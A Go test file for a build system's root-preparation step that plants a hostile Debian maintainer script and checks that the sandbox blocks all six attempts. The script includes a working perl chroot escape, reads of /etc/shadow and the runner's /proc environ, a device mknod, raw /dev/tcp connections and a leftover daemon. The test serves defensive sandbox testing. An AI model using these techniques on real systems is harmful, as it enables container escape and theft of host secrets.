package buildroot_test

import (
	"context"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cloud-builder/cb/internal/buildroot"
)

// hostilePostinst runs as a maintainer script while the native backend
// installs the root. It tries what a package from a project repository
// could try against the runner, and reports each attempt; then it fails,
// so the prepare must fail too. @FORBIDDEN@ is a host:port on the host
// that no repository allows, @RUNNER_PID@ the pid of the process that
// prepares.
const hostilePostinst = `#!/bin/bash
try() {
	name=$1; shift
	if err=$("$@" 2>&1 >/dev/null); then echo "HOSTILE $name: ESCAPED"; else echo "HOSTILE $name: blocked ($(echo "$err" | tail -n1))"; fi
}
escape='mkdir "/cb-esc"; chroot "/cb-esc" or die "chroot: $!\n"; chdir ".." for 1..64; chroot "." or die "chroot: $!\n";'
perl -e "$escape"'print(-e "/proc/@RUNNER_PID@" ? "HOSTILE probe: a chroot escape reaches the host tree, as uid $< of its user namespace\n" : "HOSTILE probe: no way out of the chroot\n")'
try "mknod of a disk device" mknod /cb-hostile-disk b 8 0
try "write a host file after a chroot escape" perl -e "$escape"'open(F, ">", "/etc/cb-hostile-escaped") or die "open: $!\n"; print F "x"; close(F) or die "close: $!\n"'
try "read a host secret after a chroot escape" perl -e "$escape"'open(F, "<", "/etc/shadow") or die "open: $!\n"; my $l = <F>; defined $l or die "read: $!\n"'
try "read the runner's environment after a chroot escape" perl -e "$escape"'open(F, "<", "/proc/@RUNNER_PID@/environ") or die "open: $!\n"; my $l = <F>; defined $l or die "read: $!\n"'
try "connect to a host service" bash -c 'exec 3<>/dev/tcp/@FORBIDDEN_HOST@/@FORBIDDEN_PORT@'
try "fetch a forbidden repository through the proxy" bash -c '
	p=${http_proxy#http://}; p=${p%/}
	[ -n "$p" ] || { echo "no proxy in the environment" >&2; exit 1; }
	exec 3<>/dev/tcp/${p%:*}/${p##*:} || exit 1
	printf "GET http://@FORBIDDEN@/dists/x/InRelease HTTP/1.0\r\n\r\n" >&3
	read -r status <&3; case "$status" in *" 200 "*) exit 0;; esac; echo "proxy: $status" >&2; exit 1'
# A daemon that would outlive the prepare.
setsid sleep 86399 </dev/null >/dev/null 2>&1 &
echo "HOSTILE done"
exit 1
`

// hostileAttempts is how many "try" lines hostilePostinst has.
const hostileAttempts = 6

// A package whose maintainer script attacks the runner during prepare:
// every attempt is blocked, the prepare fails with the script's failure,
// and nothing is left behind (no partial root, no mount, no process).
func TestPrepareHostileMaintainerScript(t *testing.T) {
	requireRootTools(t, "mmdebstrap", "dpkg-deb", "gpg", "gpgconf")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	for _, p := range []string{"/etc/cb-hostile-escaped"} {
		os.Remove(p)
	}

	// A forbidden service on the host: whatever reaches it is counted.
	var hits atomic.Int32
	forbidden := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	defer forbidden.Close()
	fhost, fport, _ := net.SplitHostPort(forbidden.Listener.Addr().String())

	// The project repository, signed as the collector signs it, holding
	// the hostile package, and a package whose buildroot needs it.
	script := strings.NewReplacer("@FORBIDDEN@", forbidden.Listener.Addr().String(),
		"@FORBIDDEN_HOST@", fhost, "@FORBIDDEN_PORT@", fport, "@RUNNER_PID@", strconv.Itoa(os.Getpid())).Replace(hostilePostinst)
	pr := serveProjectRepo(t, ctx, projectDeb(t, "cb-hostile", "1.0", "perl-base, bash", script), "cb-hostile")
	pkgDir := dependentPackage(t, "cb-victim", "cb-hostile", "cb-hostile")

	root := t.TempDir()
	tg := newTarget(t, root, "projects/T/cb-victim")
	var log syncBuffer
	opts := buildroot.Options{
		CacheDir:        filepath.Join(root, ".cache", "buildroot"),
		Backend:         buildroot.BackendNative,
		Log:             &log,
		Logger:          slog.New(slog.NewTextHandler(&log, nil)),
		ProjectRepos:    pr,
		NoDownloadCache: true,
	}
	_, err := buildroot.Prepare(ctx, opts, pkgDir, tg)
	out := log.String()
	if err == nil {
		t.Fatalf("prepare with a failing maintainer script succeeded:\n%s", out)
	}
	if !strings.Contains(err.Error(), "mmdebstrap") {
		t.Errorf("error does not say which step failed: %v", err)
	}
	if !strings.Contains(out, "root created as") && !strings.Contains(out, "--mode=unshare") {
		t.Errorf("root not installed as the build's id range:\n%s", out)
	}
	if !strings.Contains(out, "HOSTILE done") {
		t.Fatalf("the maintainer script did not run to its end:\n%s", out)
	}
	blocked := strings.Count(out, ": blocked (")
	t.Logf("hostile maintainer script: %d of %d attempts blocked\n%s", blocked, hostileAttempts, grepLines(out, "HOSTILE"))
	if strings.Contains(out, ": ESCAPED") || blocked != hostileAttempts {
		t.Errorf("attempts not blocked (%d of %d blocked):\n%s", blocked, hostileAttempts, grepLines(out, "HOSTILE"))
	}
	if _, err := os.Stat("/etc/cb-hostile-escaped"); err == nil {
		os.Remove("/etc/cb-hostile-escaped")
		t.Error("the maintainer script wrote a host file")
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the forbidden service was reached %d times", n)
	}
	// Nothing left behind: no partial root, no mount, no process.
	left, _ := filepath.Glob(filepath.Join(opts.CacheDir, "*", "tmp-*"))
	if len(left) > 0 {
		t.Errorf("partial roots left behind: %v", left)
	}
	assertNoMountsBelow(t, root)
	assertNoMountsBelow(t, buildroot.BindBase)
	if pids := processesWith("86399"); len(pids) > 0 {
		t.Errorf("the maintainer script's daemon outlived the prepare: pids %v", pids)
	}
}

func grepLines(s, substr string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, substr) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// processesWith lists the pids whose command line contains arg.
func processesWith(arg string) []string {
	var out []string
	cmdlines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range cmdlines {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		for _, a := range strings.Split(string(b), "\x00") {
			if a == arg {
				out = append(out, strings.Split(p, "/")[2])
			}
		}
	}
	return out
}
